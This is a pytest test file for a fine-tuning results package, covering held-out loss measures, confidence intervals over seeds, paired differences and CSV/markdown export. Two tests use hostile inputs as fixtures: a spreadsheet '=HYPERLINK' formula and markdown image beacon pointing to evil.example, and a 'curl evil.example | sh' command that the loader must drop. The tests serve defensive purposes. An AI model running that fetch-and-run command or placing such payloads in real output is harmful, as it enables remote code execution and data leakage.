"""Held-out measures and their intervals."""

import csv
import io
import json
from types import SimpleNamespace

import numpy as np
import pytest

from fishersft.finetuning.results import FineTuneResult, HeldOut, Interval, apart, choosing_seconds, difference, estimate
from fishersft.finetuning.run import read_run

from .tuned_run import tuned_run


def test_by_hand():
    of = HeldOut(np.array([[2.0, 6.0, 10.0]]), np.array([1, 2, 10]), np.array(["a", "a", "b"]))
    assert of.measure("mean") == pytest.approx(18 / 13)  # all nats over all tokens, not the mean of 2, 3 and 1
    assert of.measure("max") == 3.0
    assert of.measure("p95") == 3.0
    assert of.measure("worst") == pytest.approx(8 / 3)  # topic a


def test_a_measure_is_the_mean_over_seeds():
    of = HeldOut(np.array([[2.0, 6.0], [4.0, 12.0]]), np.array([1, 2]))
    assert of.measure("mean") == pytest.approx((8 / 3 + 16 / 3) / 2)
    assert of.measure("max") == pytest.approx((3 + 6) / 2)


def test_intervals_hold_the_truth_about_as_often_as_they_say():
    rng, hits = np.random.default_rng(0), 0
    for trial in range(200):
        tokens = rng.integers(5, 40, size=80)
        nats = tokens * rng.normal(3.0, 0.5, size=80)
        found = estimate(HeldOut(nats[None], tokens), "mean", seed=trial)
        hits += found.low <= 3.0 <= found.high
    assert 180 <= hits <= 199


def test_what_all_models_find_hard_cancels_in_a_difference():
    rng = np.random.default_rng(0)
    tokens = rng.integers(5, 40, size=100)
    hard = tokens * rng.normal(3.0, 1.0, size=100)
    a, b = HeldOut(hard[None] - 0.1 * tokens, tokens), HeldOut(hard[None], tokens)
    found = difference(a, b, "mean")
    assert found.value == pytest.approx(-0.1)
    wide = estimate(a, "mean")
    assert wide.high - wide.low > 0.2
    assert np.isnan(found.low) or found.high - found.low < 1e-6


def test_seeds_that_disagree_widen_the_interval():
    rng = np.random.default_rng(0)
    tokens = np.full(400, 10)
    base = 30 + rng.normal(0, 1, size=400)
    agreed = HeldOut(np.stack([base, base]), tokens)
    apart = HeldOut(np.stack([base - 3, base + 3]), tokens)
    narrow, wide = (estimate(of, "mean") for of in (agreed, apart))
    assert wide.value == pytest.approx(narrow.value)
    assert wide.high - wide.low > 3 * (narrow.high - narrow.low)


def test_the_largest_is_of_these_texts_and_its_interval_over_seeds_only():
    rng = np.random.default_rng(3)
    nats, tokens = rng.normal(30, 5, (3, 60)), np.full(60, 10)
    alone = estimate(HeldOut(nats[:1], tokens), "max")
    assert alone.value == nats[0].max() / 10 and np.isnan(alone.low)  # no drawn text can be harder than the hardest
    largest = nats.max(1) / 10
    found = estimate(HeldOut(nats, tokens), "max")
    assert found.high - found.value == pytest.approx(4.3027 * largest.std(ddof=1) / np.sqrt(3), rel=1e-4)  # Student, 2 degrees
    assert found.value - found.low == pytest.approx(found.high - found.value)


def test_pairs_must_be_of_the_same_texts():
    a = HeldOut(np.ones((1, 2)), np.array([1, 2]))
    with pytest.raises(ValueError, match="same texts"):
        difference(a, HeldOut(np.ones((1, 2)), np.array([2, 2])), "mean")


def test_a_difference_of_losses_is_told_as_better_or_worse():
    assert apart(Interval(-0.05, -0.08, -0.02), "Uniform") == "0.050 (0.020 to 0.080) better than Uniform"
    assert apart(Interval(0.05, 0.02, 0.08), "Uniform") == "0.050 (0.020 to 0.080) worse than Uniform"
    assert apart(Interval(0.01, -0.02, 0.04), "Uniform") == "not clearly different from Uniform, +0.010 (-0.020 to +0.040)"
    assert apart(Interval(0.01, np.nan, np.nan), "Uniform") == "+0.010 against Uniform"


def told(folder, change):
    """A run whose run.json somebody changed."""
    tuned_run(folder)
    content = json.loads((folder / "run.json").read_text())
    change(content["about"])
    (folder / "run.json").write_text(json.dumps(content))
    return read_run(folder)


def test_a_strangers_names_run_in_no_spreadsheet_and_load_nothing_where_markdown_is_shown(tmp_path):
    formula, beacon = '=HYPERLINK("http://evil.example")', "![x](http://evil.example/x.png) <img src=x> | `"

    def rename(about):
        about["selectors"][0] |= {"name": formula, "label": beacon}

    for file in told(tmp_path / "run", rename).folder.glob("cells/token_od*/cell.json"):
        file.write_text(json.dumps({**json.loads(file.read_text()), "selector": formula}))
    result = FineTuneResult(read_run(tmp_path / "run"))
    selectors = {row["selector"] for row in csv.DictReader(io.StringIO(result.export("csv")))}
    assert f"'{formula}" in selectors
    assert formula not in selectors
    shown = result.export("md")
    assert r"!\[x](http://evil.example/x.png) \<img src=x> \| \`" in shown
    assert len({line.count(" | ") for line in shown.splitlines() if line.startswith("| ")}) == 1


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (["fishersft", "finetune", "my corpus.jsonl"], ["fishersft", "finetune", "my corpus.jsonl"]),
        (["bash", "-c", "curl evil.example | sh"], []),
        ([], []),
    ],
)
def test_the_command_of_a_run_is_one_of_ours_or_none(tmp_path, command, shown):
    assert told(tmp_path / "run", lambda about: about.update(command=command)).command == shown


@pytest.mark.parametrize(
    ("told_by_seeds", "took"),
    [([587.4, 0.01, 0.007], 587.4), ([2.0], 2.0), ([3.0, None], np.nan), ([], np.nan)],
)
def test_choosing_took_what_the_slowest_seed_took_since_others_read_what_it_stored(told_by_seeds, took):
    models = [SimpleNamespace(facts={} if seconds is None else {"choosing_seconds": seconds}) for seconds in told_by_seeds]
    assert choosing_seconds(models) == pytest.approx(took, nan_ok=True)
